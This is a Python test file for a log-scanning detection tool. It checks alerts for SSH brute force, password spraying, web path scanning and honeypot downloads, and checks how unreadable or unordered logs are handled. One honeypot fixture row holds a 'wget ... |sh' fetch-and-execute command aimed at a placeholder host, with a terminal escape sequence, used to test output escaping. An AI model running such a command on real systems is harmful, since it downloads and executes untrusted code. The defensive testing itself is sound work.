"""Logs of any kind are scanned with rules of any kind; what could not be used is counted."""

import gzip
import json
from pathlib import Path
from typing import Any

import pytest

from ruleforge.app.event_scan import EventHit, EventReport, in_order, read_any, row_of, scan_events
from ruleforge.engine.correlation import Alert
from ruleforge.errors import UsageError
from ruleforge.events.event import Event
from ruleforge.events.request import Request

BUILTIN = Path("builtin")
LINE = "2099-03-04T05:06:{:02}Z gate sshd[{}]: Failed password for {} from 192.0.2.10 port 4{:03} ssh2\n"


def put_logins(folder: Path, number: int = 12) -> Path:
    file = folder / "auth.log"
    file.write_text("".join(LINE.format(at, at, "root", at) for at in range(number)), "utf-8")
    return file


def found(files: list[Path], rules: Any = BUILTIN, **options: Any) -> tuple[list[EventHit | Alert], EventReport]:
    report = EventReport()
    return list(scan_events(rules, files, report, **options)), report


def test_our_own_rules_find_guessing_in_a_log_of_logins(tmp_path: Path) -> None:
    alerts, report = found([put_logins(tmp_path)])
    assert {alert.rule for alert in alerts} == {"RF-AUTH-BRUTE-FORCE", "RF-AUTH-FRUITLESS-CONNECTIONS"}
    assert (report.files, report.events, report.alerts, report.hits) == (1, 12, 2, 0)
    assert report.by_kind == {"auth_log": 12}
    assert "RF-DNS-TUNNEL" in report.rules_not_asked
    assert report.left_to_scan == 0
    assert report.tally.absorbed > 0


def test_files_need_not_be_in_order(tmp_path: Path) -> None:
    file = put_logins(tmp_path)
    lines = file.read_text("utf-8").splitlines(keepends=True)
    later, earlier = tmp_path / "later.log", tmp_path / "earlier.log.gz"
    later.write_text("".join(lines[6:]), "utf-8")
    earlier.write_bytes(gzip.compress("".join(lines[:6]).encode()))
    alerts, _ = found([later, earlier])
    whole, _ = found([file])
    assert [(one.rule, one.start_us, one.end_us) for one in alerts if isinstance(one, Alert)] == [
        (one.rule, one.start_us, one.end_us) for one in whole if isinstance(one, Alert)
    ]


def test_rotated_logs_are_read_as_they_were_written(tmp_path: Path) -> None:
    names = ["auth.log", "auth.log.1", "auth.log.2", "notes"]
    for number, name in enumerate(names[:3]):
        (tmp_path / name).write_text(LINE.format(30 - number, 1, "a", 1), "utf-8")
    (tmp_path / "notes").write_text("nothing known\n", "utf-8")
    files = [tmp_path / name for name in ["notes", *names[:3]]]
    assert [file.name for file in in_order(files)] == ["auth.log.2", "auth.log.1", "auth.log", "notes"]


def test_requests_are_counted_and_single_rules_are_left_to_scan(tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    line = '192.0.2.10 - - [04/Mar/2099:05:06:{:02} +0000] "GET /old{} HTTP/1.1" 404 5 "-" "-"\n'
    log.write_text("".join(line.format(at, at) for at in range(40)), "utf-8")
    alerts, report = found([log])
    assert [alert.rule for alert in alerts] == ["RF-HTTP-PATH-SCANNING"]
    rules = tmp_path / "rules"
    rules.mkdir()
    when = {"field": "path", "op": "equals", "value": "/old1"}
    (rules / "rule.json").write_text(json.dumps({"schema": 1, "id": "S", "when": when}), "utf-8")
    with pytest.raises(UsageError, match="RF111"):
        found([log], rules, unvalidated=True)
    hits, report = found([log], rules, unvalidated=True, single_requests=True)
    assert [(hit.rule, hit.event) for hit in hits if isinstance(hit, EventHit)] == [("S", "access.log:2")]
    assert report.hits == 1


def test_rules_without_evidence_are_left_out_and_counted(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    when = {"field": "user", "op": "present"}
    (rules / "rule.json").write_text(json.dumps({"schema": 1, "id": "S", "event": "auth_log", "when": when}), "utf-8")
    with pytest.raises(UsageError, match="RF111"):
        found([], rules)
    (rules / "broken").mkdir()
    (rules / "broken" / "rule.json").write_text("{", "utf-8")
    _, report = found([put_logins(tmp_path)], rules)
    assert (report.rules, report.unvalidated, len(report.broken)) == (0, 1, 1)


def test_what_cannot_be_read_is_counted_and_the_rest_goes_on(tmp_path: Path) -> None:
    file = put_logins(tmp_path)
    file.write_text("nonsense\n" + file.read_text("utf-8"), "utf-8")
    empty, unknown, damaged = tmp_path / "empty", tmp_path / "unknown", tmp_path / "damaged.gz"
    empty.write_bytes(b"")
    unknown.write_bytes(b"no log at all\n")
    damaged.write_bytes(gzip.compress(b"x" * 10_000)[:20])
    alerts, report = found([unknown, empty, tmp_path / "missing", damaged, file])
    assert len(alerts) == 2
    assert report.files == 5
    assert report.unreadable_files >= 2
    assert report.unreadable == len(report.problems) >= 4
    assert any("RF250" in problem for problem in report.problems)


def test_undecidable_rules_are_counted(tmp_path: Path) -> None:
    log = tmp_path / "audit.log"
    log.write_text(
        'type=SYSCALL msg=audit(4076370367.250:77): syscall=59 success=yes ppid=1 pid=2 exe="/usr/bin/dash"\n'
        'type=EXECVE msg=audit(4076370367.250:77): argc=1 a0="sh"\n',
        "utf-8",
    )
    _, report = found([log])
    assert report.undecidable == {"RF-PROCESS-SHELL-OF-WEB-SERVER": 1}


def test_rows_for_machines_are_safe_and_complete(tmp_path: Path) -> None:
    log = tmp_path / "c.json"
    row = {
        "eventid": "cowrie.command.input",
        "input": "wget http://f.example/\x1b[2J|sh",
        "timestamp": "2099-01-01T00:00:00.5Z",
    }
    log.write_text(json.dumps(row), "utf-8")
    (hit,), _ = found([log])
    data = row_of(hit)
    assert data["type"] == "hit"
    assert data["time"] == "2099-01-01T00:00:00.500000Z"
    assert data["fields"]["command"] == "wget http://f.example/\\x1b[2J|sh"  # type: ignore[index]
    alerts, _ = found([put_logins(tmp_path)])
    data = row_of(alerts[0])
    assert data["type"] == "alert"
    assert data["key"] == {"source.address": "192.0.2.10"}
    assert data["start"] == "2099-03-04T05:06:00.000000Z"
    json.dumps(data)


def test_any_log_is_read_by_what_it_holds(tmp_path: Path) -> None:
    access = tmp_path / "a.log"
    access.write_text('192.0.2.10 - - [04/Mar/2099:05:06:07 +0000] "GET / HTTP/1.1" 200 5\n', "utf-8")
    assert [type(item) for item in read_any(access)] == [Request]
    assert {type(item) for item in read_any(put_logins(tmp_path))} == {Event}


@pytest.mark.corpus
def test_guessing_is_found_in_logs_with_and_without_failed_passwords(corpus: Path) -> None:
    """Two of the four logs have no line "Failed password": a count of those alone would find nothing there."""
    rules: dict[str, set[str]] = {}
    for file in sorted((corpus / "logs").glob("ssh-dev-*.log")):
        alerts, report = found([file])
        assert report.unreadable <= 1
        rules[file.name] = {alert.rule for alert in alerts if isinstance(alert, Alert)}
    assert len(rules) == 4
    assert all("RF-AUTH-FRUITLESS-CONNECTIONS" in names for names in rules.values())
    assert sum("RF-AUTH-BRUTE-FORCE" in names for names in rules.values()) == 2
    assert sum("RF-AUTH-PASSWORD-SPRAYING" in names for names in rules.values()) == 3


@pytest.mark.corpus
def test_a_honeypot_shows_guessing_and_what_came_after(corpus: Path) -> None:
    _, report = found([corpus / "traffic" / "cowrie-dev.jsonl.gz"])
    assert report.unreadable == 0
    assert report.events > 18_000
    assert report.undecidable == {}
    assert set(report.by_rule) >= {"RF-AUTH-BRUTE-FORCE", "RF-AUTH-SUCCESS-AFTER-FAILURES", "RF-AUTH-HONEYPOT-DOWNLOAD"}


@pytest.mark.corpus
def test_an_ordinary_web_log_raises_no_alert(corpus: Path) -> None:
    alerts, report = found([corpus / "traffic" / "access-semicomplete-ordered.jsonl.gz"])
    assert report.by_kind == {"http.request": 10_000}
    assert alerts == []


def test_every_hostile_time_can_be_written(tmp_path: Path) -> None:
    log = tmp_path / "audit.log"
    line = 'type=SYSCALL msg=audit({}.250:{}): syscall=59 success=yes ppid=7 pid=2 exe="/usr/bin/{}"\n'
    programs = ["id", "ps", "ss", "w", "who"]
    log.write_text("".join(line.format(999_999_999_999, at, name) for at, name in enumerate(programs)), "utf-8")
    alerts, report = found([log])
    assert alerts == []
    assert report.tally.untimed == 5
    log.write_text("".join(line.format(253_402_300_799, at, name) for at, name in enumerate(programs)), "utf-8")
    alerts, _ = found([log])
    assert [row_of(alert)["end"] for alert in alerts] == ["9999-12-31T23:59:59.250000Z"]
